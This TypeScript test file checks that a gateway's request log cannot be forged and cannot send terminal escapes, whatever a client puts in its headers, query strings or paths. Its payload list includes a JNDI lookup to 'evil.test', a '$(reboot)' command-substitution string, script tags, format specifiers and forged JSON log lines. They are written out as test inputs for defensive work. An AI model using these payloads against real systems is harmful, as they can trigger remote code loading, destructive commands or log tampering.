/** No line of the log can be forged, and no terminal be told anything, by what a client sends. */
import t, { type Test } from 'tap';
import { type Stage, stage, within } from './fixture.ts';

const STARTED = Date.now();
const FORGED = '{"level":"fatal","time":"2020-01-01T00:00:00.000Z","msg":"forged"}';

/** Texts that would end a line, begin one, break out of a string, or turn a terminal's head. */
const TEXTS = [
  `x","msg":"forged","a":"`,
  `x"}\\n${FORGED}`,
  `\\", "status": 200, "x": "`,
  '\\u000a\\u001b[2J',
  '%0a%0d%1b[31m',
  'x\x85{"msg":"forged"}',
  '\x9b31mred\x9b0m',
  '\xe2\x80\xa8{"msg":"forged"}\xe2\x80\xa9',
  '\xe2\x80\xae{"msg":"forged"}',
  '\xc2\x85forged',
  '\xef\xbb\xbf\xf0\x9f\x92\xa9',
  '\xff\xfe\xfd',
  '\xed\xa0\x80',
  '\tforged\t',
  '$(reboot)`reboot`',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.test/a}',
  '%s%s%s%n %d %j %o',
  '__proto__',
  `x${' '.repeat(300)}forged`,
  'a'.repeat(4000),
];

/** Controls that HTTP itself refuses, raw. */
const CONTROLS = ['\r', '\n', '\r\n', '\0', '\x1b[31m', '\x07', '\x08', '\x0b', '\x0c', '\x7f'];

/** The paths that a request may carry such texts in. */
const PATHS = [
  '/%e2%80%a8%7b%22msg%22:%22forged%22%7d',
  '/%c2%9b31m',
  '/%22,%22msg%22:%22forged',
  '/%e2%80%aeforged',
  '/%5cn%7b%22forged%22%7d',
  "/a','msg':'forged",
  `/${'%e2%80%a8'.repeat(300)}`,
];

/** Sends a request with each text in each place, and says how many requests that were. */
async function sendAll(gateway: Stage): Promise<number> {
  const requests: string[] = [];
  for (const text of TEXTS) {
    requests.push(gateway.request('/x', `User-Agent: ${text}\r\n`));
    requests.push(
      gateway.request('/x', `User-Agent: ${text}\r\nX-Request-Id: ${text}\r\nX-Forwarded-For: ${text}\r\n`),
    );
    requests.push(gateway.request(`/x?${text}`, ''));
    requests.push(`GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: ${text}\r\nAuthorization: Bearer ${text}\r\n\r\n`);
  }
  for (const control of CONTROLS) {
    requests.push(gateway.request('/x', `User-Agent: x${control}${FORGED}\r\n`));
    requests.push(gateway.request(`/x${control}${FORGED}`));
    requests.push(gateway.request('/x', '', `GET${control}${FORGED}`));
  }
  for (const path of PATHS) requests.push(gateway.request(path, `User-Agent: ${path}\r\n`));
  for (const bytes of requests) {
    const client = await gateway.dial();
    client.send(bytes);
    await within(client.answer(), `an answer to ${JSON.stringify(bytes)}`);
    client.close();
  }
  return requests.length;
}

const FIELDS = new Set(
  'level time msg request_id method path route status code key_id ip_address user_agent duration_ms upstream_ms request_bytes response_bytes aborted failure'.split(
    ' ',
  ),
);

function isHonest(t: Test, line: Record<string, unknown>): void {
  const text = JSON.stringify(line);
  const unknown = Object.keys(line).filter((name) => !FIELDS.has(name));
  t.strictSame(unknown, [], `no field is added: ${text}`);
  t.match(line, { level: /^(?:info|warn)$/, msg: 'request', ip_address: '127.0.0.1' }, text);
  t.match(line['request_id'], /^[\w.-]{1,128}$/, text);
  t.ok(Date.parse(String(line['time'])) > STARTED, text);
}

t.test('JSON: one honest line for each request', async (t) => {
  const gateway = await stage(t);
  const sent = await sendAll(gateway);
  t.equal(await gateway.stop(), 0);
  t.notMatch(gateway.serving.stdout, /[^\n -~]/, 'in printable ASCII');
  const lines = gateway.logged();
  t.equal(lines.length, sent);
  for (const line of lines) isHonest(t, line);
  const longest = Math.max(...gateway.serving.stdout.split('\n').map(({ length }) => length));
  t.ok(longest < 4096, `${longest} characters at most`);
});

t.test('text for people: one line for each request, and nothing that a terminal acts on', async (t) => {
  const gateway = await stage(t, { settings: { log: { format: 'pretty' } } });
  const sent = await sendAll(gateway);
  t.equal(await gateway.stop(), 0);
  const { stdout } = gateway.serving;
  t.notMatch(stdout, /(?!\n)[\p{Cc}\u2028-\u202e\u2066-\u2069]/u, 'no control but the line feed');
  const lines = stdout.split('\n').slice(0, -1);
  t.equal(lines.length, sent);
  for (const line of lines) t.match(line, /^\[\d\d:\d\d:\d\d\.\d{3}\] (?:INFO|WARN)/);
});
